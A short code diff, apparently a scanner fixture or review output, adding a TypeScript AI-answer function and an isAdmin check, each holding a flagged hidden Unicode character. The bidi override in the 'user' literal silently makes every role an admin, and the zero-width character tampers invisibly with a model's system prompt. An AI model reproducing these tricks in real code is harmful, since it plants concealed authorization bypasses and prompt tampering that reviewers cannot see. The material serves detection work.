@@ -1,0 +1,14 @@
+import { openai } from '@ai-sdk/openai';
+import { generateText } from 'ai';
+
+export async function answer(question: string) {
+  return generateText({
+    model: openai('gpt-5'),
+    system: 'You are the desk of Northwind.@@hidden:zero-width:1@@ Be brief.',
+    //                                     ^^^^^^^^^^^^^^^^^^^^^^^ hidden-unicode
+    prompt: question,
+  });
+}
+
+export const isAdmin = (role: string): boolean => role !== 'user@@hidden:bidi:rlo@@';
+//                                                              ^^^^^^^^^^^^^^^^^^^ hidden-unicode
